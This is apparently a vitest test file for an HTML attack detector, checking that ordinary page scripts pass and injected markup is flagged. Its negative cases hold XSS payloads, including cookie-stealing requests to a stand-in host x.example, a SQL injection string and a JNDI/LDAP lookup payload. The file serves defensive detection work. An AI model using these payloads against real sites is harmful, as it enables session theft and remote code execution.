import { describe, expect, it } from 'vitest';
import { judgeValue } from '../judge.ts';
import { withoutPrograms } from './page.ts';

const said = (text: string): string[] =>
  judgeValue(text).map(({ detector, confidence }) => `${detector.class} ${confidence}`);

const SECTION =
  '<section class="tides"><h2>Tides</h2><p>High water at noon, low water at six, and a walk in between.</p></section>\n';

/** A page of several windows around a piece of markup. */
function page(markup: string, sections = 60): string {
  const text = SECTION.repeat(sections);
  return `<!doctype html>\n<html><head><title>Harbour</title></head><body>\n${text}${markup}\n${text}</body></html>`;
}

describe('a page of several windows', () => {
  it.each([
    '<script>var a=b(1);if(!c[d]){d=k(b);i[d]}for(var w=h.length-1;w>0;w--){e(w)}</script>',
    '<script>function g(t){return t.global}var x=y||this.name;return false;</script>',
    '<script>try{f("prod" == "local") || (g && "undefined"==typeof h)}catch(e){}</script>',
    '<script type="application/ld+json">{"@context":"https://schema.org","@type":["NewsMediaOrganization","Organization"]}</script>',
    '<script src="https://static.harbour.example/wp-content/plugins/notes/class/../js/tools.min.js?ver=5.3.2"></script>',
    '<script src="/_next/static/chunks/app/(content)/layout-d73f20bc.js" async></script>',
    '<script src="https://metrics.example/pingjs/?t=%28a%29"></script>',
    '<script src="data:text/javascript;base64,dmFyIGEgPSAxOyBzdGFydChhKTs="></script>',
    `<script>var t = document.createElement("script"); t.src = "https://tags.example/t.js"; ${'step(1); '.repeat(60)}document.cookie = "seen=1";</script>`,
    '<script>function readCookie(name) { var m = document.cookie.match("(^|;) ?" + name + "=([^;]*)(;|$)"); return m ? m[2] : null; }</script>',
    '<script>document.write("harbour"+"&#64;"+"tides.example");</script>',
    '<style>@media print { a[href^="javascript:"]:after { content: "" } }</style>',
    `<img alt="" src="data:image/jpeg;base64,${'/9j/4AAQSkZJRgAB'.repeat(400)}">`,
    '<script>document.write("<script src=\'" + host + "stats.example/a.js\'><\\/script>");</script>',
  ])('may hold %#', (markup) => {
    expect(said(page(markup))).toEqual([]);
  });

  it.each([
    ['<script>alert(document.domain)</script>', 'xss'],
    ['<script>fetch("https://x.example/?c="+document.cookie)</script>', 'xss'],
    ['<script src="data:text/javascript;base64,YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=="></script>', 'xss'],
    ['<script src="https://user@x.example/a.js"></script>', 'xss'],
    ['<script>function a() { alert(document.cookie); } a();</script>', 'xss'],
    ['<script>new Image().src = "//x.example/?" + document.cookie;</script>', 'xss'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['<a href="javascript:alert(document.cookie)">x</a>', 'xss'],
    ['<style>p{x:expression(alert(1))}</style>', 'xss'],
    ["<p>1' or 1=1-- </p>", 'sqli'],
    ['<script>${jndi:ldap://x.example/a}</script>', 'jndi'],
  ])('may not hold %j', (markup, name) => {
    expect(said(page(markup)).join()).toContain(name);
  });
});

it('of which code put together from numbers alerts and is not blocked', () => {
  const markup = '<script>document.write(String.fromCharCode(60,47,97,62));</script>';
  expect(said(page(markup))).toEqual(['xss medium']);
});

it('leaves the tags of programs, and the styles that run', () => {
  const scripts: string[] = [];
  const text = `<html>${SECTION.repeat(2)}<SCRIPT src="a.js">b</SCRIPT><style>c{}</style><style>@import "d"</style>`;
  expect(withoutPrograms(text, scripts)).toBe(
    `<html>${SECTION.repeat(2)}<SCRIPT src="a.js"></SCRIPT><style></style><style>@import "d"</style>`,
  );
  expect(scripts).toEqual(['b']);
});

it.each([
  ['a sentence', `${'High water at noon. '.repeat(300)}<script>a</script>`],
  ['more scripts than pages have', `<html>${'<script>a(1)</script>'.repeat(600)}`],
  ['more text than pages have', `<html>${SECTION.repeat(5000)}`],
])('is none: %s', (_, text) => {
  expect(withoutPrograms(text, [])).toBeUndefined();
});
